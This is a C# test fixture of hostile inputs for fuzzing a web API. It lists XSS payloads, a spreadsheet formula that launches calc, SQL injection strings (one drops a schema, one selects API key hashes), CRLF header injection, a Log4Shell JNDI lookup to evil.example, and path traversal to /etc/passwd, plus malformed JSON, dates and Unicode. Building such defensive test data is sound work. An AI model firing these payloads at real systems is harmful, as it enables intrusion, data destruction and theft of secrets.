using System.Text.Encodings.Web;
using System.Text.Json;

namespace Ombud.Hostile.Tests.Attacks;

/// <summary>What nobody sends who means well.</summary>
internal static class Nasty
{
    public const string Script = "<script>alert(7331)</script>";
    public const string Image = "\"'><img src=x onerror=alert(7331)>";
    public const string Formula = "=cmd|'/C calc'!A1";

    // First, since the lists below are made with it.
    private static readonly JsonSerializerOptions Raw = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    /// <summary>Texts that somebody downstream might take for more than texts.</summary>
    public static readonly string[] Texts =
    [
        Script, Image, Formula, "@SUM(1+1)", "+7331", "-7331", "\t=1+1", "</title></style><svg onload=alert(7331)>", "javascript:alert(7331)", "&lt;b&gt;", "]]><!--", "{{7*7}}${7*7}",
        "'; drop schema ombud cascade; --", "' or '1'='1", "\\'; select pg_sleep(9); --", "1) union select hash from api_keys --", "%' or 1=1", "$1", "E'\\000'", "$$;$$",
        "x\r\nSet-Cookie: evil=1\r\n\r\nHTTP/1.1 200 OK", "\n2026-01-01 crit: forged line", "${jndi:ldap://evil.example/a}", "{0}{1}{Name}", "%s%n%x", "../../../../etc/passwd", "..\\..\\windows",
        "\u202Eevitan\u202C", "a\u200Bb\u200Dc\uFEFF", "\u0001\u0002\u001B[31m", "\u007F\u0085\u2028\u2029", "\uFFFE\uFFFF", "\uD83D\uDE00", "e\u0301\u0301\u0301", "ﷺ", "\u0130\u0131ſ", " ", "", "null", "NaN", "undefined",
        "true", "0", "-0", "1e400", "9223372036854775808", new('a', 300), new('ø', 5_000), new('x', 60_000),
    ];

    /// <summary>JSON as it stands in a body, some of it no JSON at all.</summary>
    public static readonly string[] Fragments =
    [
        "null", "true", "false", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1E-400", "2147483648", "9223372036854775808", "-9223372036854775809", "123456789012345678901234567890",
        "NaN", "Infinity", "-Infinity", "0x10", "01", "1.", "+1", "'x'", "[]", "{}", "[[]]", "[null]", "[{}]", "{\"\":null}", "{\"$ref\":\"#\"}", "{\"__proto__\":{}}", "[1,\"a\",null,{}]", "{\"cipher\":\"x\"}",
        "\"\\ud800\"", "\"a\\udc00b\"", "\"\\u0000\"", "\"a\\u0000b\"", "\"\\uffff\"", "\"\u0001\"", "\"\\x\"", "\"unended", "\"tab\there\"", "/* */ 1", "1,", ",", "",
        "\"2023-02-30\"", "\"2023-13-01\"", "\"0000-01-01\"", "\"0001-01-01\"", "\"9999-12-31\"", "\"10000-01-01\"", "\"-0001-06-13\"", "\"-9998-01-01\"", "\"+12023-01-01\"", "\"1900-02-29\"", "\"2024-02-29\"",
        "\"2023-06-13T24:00:00Z\"", "\"2023-06-13T10:00:00+25:00\"", "\"2023-06-13T10:00:00-18:00\"", "\"2023-06-13T10:00:00.1234567890123Z\"", "\"9999-12-31T23:59:59.999999999Z\"", "\"9999-12-31T23:59:59-14:00\"",
        "\"0001-01-01T00:00:00+18:00\"", "\"2016-12-31T23:59:60Z\"", "\"2023-06-13T10:00:00\"", "\"2023-06-13 10:00:00Z\"", "\"20230613\"", "\"13/06/2023\"", "\"٢٠٢٣-٠٦-١٣\"", "\"P1Y\"", "\"P99999999999W\"", "\"P-1D\"",
        "\"00000000-0000-0000-0000-000000000000\"", "\"ffffffff-ffff-ffff-ffff-ffffffffffff\"", "\"{0197a3c4-5f00-7000-8000-000000000001}\"", "\"0197a3c45f0070008000000000000001\"",
        .. Texts.Select(text => JsonSerializer.Serialize(text, Raw)),
    ];

    /// <summary>Query values and segments of a path, as they are sent.</summary>
    public static readonly string[] Encoded =
    [
        "%00", "a%00b", "%", "%2", "%zz", "%u0041", "%c0%af", "%ed%a0%80", "%ff%fe", "%2e%2e%2f", "..%2f..%2fetc%2fpasswd", "%252e%252e", "a%0d%0aX-Evil:%201", "+", "%20", "%09", "%e2%80%ae", "%f0%9f%98%80", "a%26b%3dc",
        "2023-02-30", "9999-12-31", "-9998-01-01", "0001-01-01", "10000-01-01", "9999-12-31T23:59:59.999999999Z", "-9998-01-01T00:00:00Z", "0001-01-01T00:00:00%2B18:00", "2023-06-13T10:00:00", "1e400", "-0", "-1", "0", "99999999999999999999",
        "2147483647", "-2147483648", "9223372036854775807", "1.5", "NaN", "null", "true", "[]", "%7b%7d", "e30", "eyJpZCI6bnVsbH0", "AAAA", "====", "",
        .. Texts.Where(text => text.Length < 1_000).Select(Uri.EscapeDataString), new('z', 2_000),
    ];
}
